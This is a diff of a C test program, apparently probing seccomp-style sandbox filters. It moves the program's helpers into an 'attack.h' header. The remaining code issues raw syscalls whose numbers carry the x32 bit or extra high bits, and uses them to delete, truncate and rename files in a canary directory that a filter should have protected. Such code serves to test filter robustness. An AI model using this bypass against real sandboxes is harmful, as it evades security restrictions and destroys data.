@@ -2,14 +2,7 @@
 // The kernel dispatches on the low 32 bits (and, where x32 is built in, on bit 30 too); a filter that
 // compared the whole register, or that forgot the x32 bit, would let these through unchecked.
 #define _GNU_SOURCE
-#include <dirent.h>
-#include <errno.h>
-#include <fcntl.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <sys/syscall.h>
-#include <unistd.h>
+#include "attack.h"
 
 static long raw(unsigned long nr, long a, long b, long c, long d) {
     long ret;
@@ -22,23 +15,6 @@ static long raw3(unsigned long nr, long a, long b, long c) {
     long ret;
     __asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
     return ret;
-}
-
-static void show(const char *what, long r) {
-    printf("%s -> %ld (%s)\n", what, r, r < 0 && r > -4096 ? strerror((int)-r) : "success");
-    fflush(stdout);
-}
-
-// The canary's regular files (top level), as names relative to it: the attack does not assume them.
-static int canary_files(const char *canary, char names[][256], int max) {
-    DIR *d = opendir(canary);
-    int n = 0;
-    struct dirent *e;
-    if (!d) { perror(canary); return 0; }
-    while (n < max && (e = readdir(d)))
-        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
-    closedir(d);
-    return n;
 }
 
 int main(void) {
@@ -55,18 +31,18 @@ int main(void) {
     const unsigned long x32 = 0x40000000UL, high = 0x100000000UL;
 
     // x32: unlinkat, openat and renameat keep their 64-bit numbers in the x32 table.
-    show("x32 unlinkat(canary file 1)", raw3(x32 | SYS_unlinkat, AT_FDCWD, (long)a, 0));
+    show_raw("x32 unlinkat(canary file 1)", raw3(x32 | SYS_unlinkat, AT_FDCWD, (long)a, 0));
     long fd = raw3(x32 | SYS_openat, AT_FDCWD, (long)b, O_WRONLY | O_TRUNC);
-    show("x32 openat(canary file 2, O_WRONLY|O_TRUNC)", fd);
+    show_raw("x32 openat(canary file 2, O_WRONLY|O_TRUNC)", fd);
     if (fd >= 0) close((int)fd);
-    show("x32 renameat(canary file 3 -> canary/renamed-by-number-game)", raw(x32 | SYS_renameat, AT_FDCWD, (long)c, AT_FDCWD, (long)d));
+    show_raw("x32 renameat(canary file 3 -> canary/renamed-by-number-game)", raw(x32 | SYS_renameat, AT_FDCWD, (long)c, AT_FDCWD, (long)d));
 
     // Upper 32 bits of rax set: the kernel takes the number as an int.
-    show("(1<<32)|unlinkat(canary file 1)", raw3(high | SYS_unlinkat, AT_FDCWD, (long)a, 0));
+    show_raw("(1<<32)|unlinkat(canary file 1)", raw3(high | SYS_unlinkat, AT_FDCWD, (long)a, 0));
     fd = raw3(high | SYS_openat, AT_FDCWD, (long)b, O_WRONLY | O_TRUNC);
-    show("(1<<32)|openat(canary file 2, O_WRONLY|O_TRUNC)", fd);
+    show_raw("(1<<32)|openat(canary file 2, O_WRONLY|O_TRUNC)", fd);
     if (fd >= 0) close((int)fd);
-    show("(1<<32)|renameat(canary file 3 -> canary/renamed-by-number-game)", raw(high | SYS_renameat, AT_FDCWD, (long)c, AT_FDCWD, (long)d));
-    show("(0xdead<<32)|unlink(canary file 4)", raw3(0xdead00000000UL | SYS_unlink, (long)e, 0, 0));
+    show_raw("(1<<32)|renameat(canary file 3 -> canary/renamed-by-number-game)", raw(high | SYS_renameat, AT_FDCWD, (long)c, AT_FDCWD, (long)d));
+    show_raw("(0xdead<<32)|unlink(canary file 4)", raw3(0xdead00000000UL | SYS_unlink, (long)e, 0, 0));
     return 0;
 }
